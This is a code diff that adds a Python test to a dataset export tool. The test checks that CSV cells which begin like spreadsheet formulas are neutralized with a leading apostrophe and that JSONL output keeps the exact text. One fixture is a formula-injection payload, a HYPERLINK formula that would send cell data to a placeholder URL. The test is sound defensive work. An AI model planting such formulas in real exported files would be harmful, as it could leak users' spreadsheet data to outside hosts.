@@ -295,6 +295,80 @@ def test_escalation_resolutions_reach_every_format(
     assert evals.skipped == {"no reference answer (rejected, or escalated and not sent)": 3}
 
 
+def test_csv_cells_that_start_like_formulas_are_neutralized(
+    desk: ReviewDesk, clock: ManualClock, tmp_path: Path
+) -> None:
+    """A spreadsheet runs a CSV cell starting with = + - @ tab or CR as a formula: such cells get
+    one more leading ' in CSV (OWASP), and every other format keeps the exact text. A carriage
+    return anywhere in a cell keeps the record on one row."""
+    specs = [
+        Spec(
+            "f-edit",
+            "edit",
+            draft='=HYPERLINK("https://example.com/?d="&A1,"Refund")',
+            input="+1 555 0100 is my number",
+            text="@SUM(A1:A9)",
+            note="-2 stars",
+            category="=cat",
+            model="@model",
+        ),
+        Spec(
+            "f-reject",
+            "reject",
+            draft="\tIndented draft",
+            input="\rCarriage return first",
+            reason="other",
+            note="'=already quoted",
+        ),
+        Spec(
+            "f-plain",
+            "approve",
+            draft="Totals: =1+1 inside the text",
+            input="a-b",
+            note="a carriage return\rinside",
+        ),
+    ]
+    decide_all(desk, specs, clock)
+
+    run_export(desk, tmp_path / "csv", format=ExportFormat.CSV)
+    with (tmp_path / "csv" / "data.csv").open(encoding="utf-8", newline="") as fh:
+        cells = {row["id"]: row for row in csv.DictReader(fh)}
+    assert list(cells) == ["f-edit", "f-reject", "f-plain"]
+    neutralized = {
+        name: cells["f-edit"][name] for name in ("draft", "input", "final", "note", "category")
+    }
+    assert neutralized == {
+        "draft": '\'=HYPERLINK("https://example.com/?d="&A1,"Refund")',
+        "input": "'+1 555 0100 is my number",
+        "final": "'@SUM(A1:A9)",
+        "note": "'-2 stars",
+        "category": "'=cat",
+    }
+    assert cells["f-edit"]["model"] == "'@model"
+    assert cells["f-reject"]["draft"] == "'\tIndented draft"
+    assert cells["f-reject"]["input"] == "'\rCarriage return first"
+    assert cells["f-reject"]["note"] == "''=already quoted"  # one ' removed gives it back
+    assert cells["f-plain"]["draft"] == cells["f-plain"]["final"] == "Totals: =1+1 inside the text"
+    assert cells["f-plain"]["input"] == "a-b"
+    assert cells["f-plain"]["note"] == "a carriage return\rinside"
+    assert cells["f-plain"]["confidence"] == "0.8"
+    assert cells["f-edit"]["context"] == "{}"
+
+    jsonl = run_export(desk, tmp_path / "jsonl", format=ExportFormat.JSONL)
+    exact = {r["id"]: r for r in read_jsonl(tmp_path / "jsonl" / "data.jsonl")}
+    assert exact["f-edit"]["draft"] == '=HYPERLINK("https://example.com/?d="&A1,"Refund")'
+    assert exact["f-edit"]["input"] == "+1 555 0100 is my number"
+    assert exact["f-edit"]["final"] == "@SUM(A1:A9)"
+    assert exact["f-edit"]["note"] == "-2 stars"
+    assert exact["f-edit"]["category"] == "=cat"
+    assert exact["f-reject"]["draft"] == "\tIndented draft"
+    assert exact["f-reject"]["input"] == "\rCarriage return first"
+    assert exact["f-reject"]["note"] == "'=already quoted"
+    assert "CSV injection" not in jsonl.card
+    card = (tmp_path / "csv" / "README.md").read_text(encoding="utf-8")
+    assert "is written with one more `'` in front" in card and "CSV injection" in card
+
+
 def test_keyset_pages_stream_everything_once(desk: ReviewDesk, clock: ManualClock) -> None:
     specs = [Spec(f"p-{i:02d}") for i in range(23)]
     decide_all(desk, specs, clock)
